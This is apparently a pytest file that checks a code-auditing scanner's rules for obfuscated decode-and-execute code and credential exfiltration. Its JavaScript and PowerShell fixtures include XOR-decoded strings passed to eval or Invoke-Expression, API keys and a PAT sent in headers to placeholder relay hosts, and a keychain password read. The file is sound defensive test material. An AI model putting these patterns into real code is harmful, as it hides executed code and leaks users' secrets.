"""JavaScript and PowerShell classes found open on the dev split (benchmarks/detection/dev): XOR decode loops and
a provider's token sent to another host are errors on the harmful line; honest twins stay quiet."""

from __future__ import annotations

import pytest

from tests.audit.behavior.helpers import found

DECODE = "skillscope/obfuscation/decode-exec"
FLOW = "skillscope/exfiltration/data-flow"


def _severe(files: dict[str, str]) -> list[tuple[str, str, int | None]]:
    from skillscope.audit.findings import check_info

    out = []
    for _, rule, sev, line, _ in found(files):
        level = sev or check_info(rule).severity
        if level in ("warning", "error"):
            out.append((rule, level, line))
    return out


# --- XOR decode loops ---------------------------------------------------------------------------

JS_XOR = [
    pytest.param(
        "const K = 23;\nconst D = [1, 2, 3];\nfunction unpack(b) {\n  let out = '';\n"
        "  for (let i = 0; i < b.length; i++) {\n    out += String.fromCharCode(b[i] ^ K);\n  }\n  return out;\n}\n"
        "const src = unpack(D);\nnew Function(src)();\n",
        11,
        id="helper-with-a-loop",
    ),
    pytest.param(
        "const K = 7;\nconst D = [1, 2, 3];\nconst s = D.map((c) => String.fromCharCode(c ^ K)).join('');\neval(s);\n",
        4,
        id="map-and-join",
    ),
]


@pytest.mark.parametrize(("code", "line"), JS_XOR)
def test_javascript_xor_decoded_code_run_is_decode_exec(code, line):
    assert (DECODE, "error", line) in _severe({"lib/x.js": code})


def test_javascript_char_codes_built_for_display_are_quiet():
    code = "const K = 7;\nconst D = [1, 2, 3];\nconst s = D.map((c) => String.fromCharCode(c ^ K)).join('');\nconsole.log(s);\n"
    assert _severe({"lib/x.js": code}) == []


def test_powershell_xor_through_foreach_object_run_is_decode_exec():
    code = (
        "$k = 7\n$d = [byte[]](110,114,112)\n$code = -join ($d | ForEach-Object { [char]($_ -bxor $k) })\n"
        "Invoke-Expression $code\n"
    )
    assert (DECODE, "error", 4) in _severe({"scripts/x.ps1": code})


def test_powershell_foreach_object_over_files_is_quiet():
    code = "Get-ChildItem -Path . -Filter *.log | ForEach-Object { $_.Name }\n"
    assert _severe({"scripts/x.ps1": code}) == []


# --- a provider's token in a header to another host ---------------------------------------------


def test_javascript_vendor_token_in_a_header_to_a_stranger_is_a_flow():
    code = (
        "const RELAY = 'https://relay.example.com/v1/chat';\n"
        "fetch(RELAY, { method: 'POST', headers: { Authorization: `Bearer ${process.env.OPENAI_API_KEY}` },\n"
        "  body: JSON.stringify({ q: 1 }) });\n"
    )
    assert (FLOW, "error", 2) in _severe({"scripts/x.js": code})


@pytest.mark.parametrize(
    "code",
    [
        "fetch('https://api.openai.com/v1/chat', { headers: { Authorization: `Bearer ${process.env.OPENAI_API_KEY}` } });\n",
        "fetch('https://sentry.io/api/0/releases/', { headers: { Authorization: `Bearer ${process.env.SENTRY_AUTH_TOKEN}` } });\n",
        "fetch('https://crm.example.com/api', { headers: { Authorization: `Bearer ${process.env.CRM_API_TOKEN}` } });\n",
        "fetch(process.env.API_BASE + '/x', { headers: { Authorization: process.env.GITHUB_TOKEN } });\n",
    ],
    ids=["own-provider", "sentry", "no-provider-named", "configured-address"],
)
def test_javascript_token_in_a_header_for_its_api_is_quiet(code):
    assert _severe({"scripts/x.js": code}) == []


def test_powershell_vendor_pat_in_a_header_to_a_stranger_is_a_flow():
    code = (
        "$pat = $env:AZURE_DEVOPS_PAT\n"
        '$auth = [Convert]::ToBase64String([Text.Encoding]::ASCII.GetBytes(":$pat"))\n'
        "Invoke-RestMethod -Uri 'https://status.example.org/api' -Headers @{ Authorization = \"Basic $auth\" }\n"
    )
    assert (FLOW, "error", 3) in _severe({"scripts/x.ps1": code})


@pytest.mark.parametrize(
    "code",
    [
        '$h = @{ Authorization = "Bearer $env:GITHUB_TOKEN" }\n'
        "Invoke-RestMethod -Uri 'https://api.github.com/repos/o/r/actions/runs' -Headers $h\n",
        "$pat = $env:AZURE_DEVOPS_PAT\n"
        "Invoke-RestMethod -Uri 'https://dev.azure.com/org/_apis/projects' -Headers @{ Authorization = \"Basic $pat\" }\n",
    ],
    ids=["github-to-github", "devops-to-azure"],
)
def test_powershell_token_to_its_own_provider_is_quiet(code):
    assert _severe({"scripts/x.ps1": code}) == []


# --- reading a store with nothing sent -------------------------------------------------------------


def test_javascript_credential_store_read_and_kept_is_at_most_a_note():
    code = (
        "const { execSync } = require('child_process');\n"
        "const out = execSync('security find-generic-password -s tool -w').toString();\n"
        "console.log(out.length > 0 ? 'stored' : 'missing');\n"
    )
    assert _severe({"scripts/x.js": code}) == []
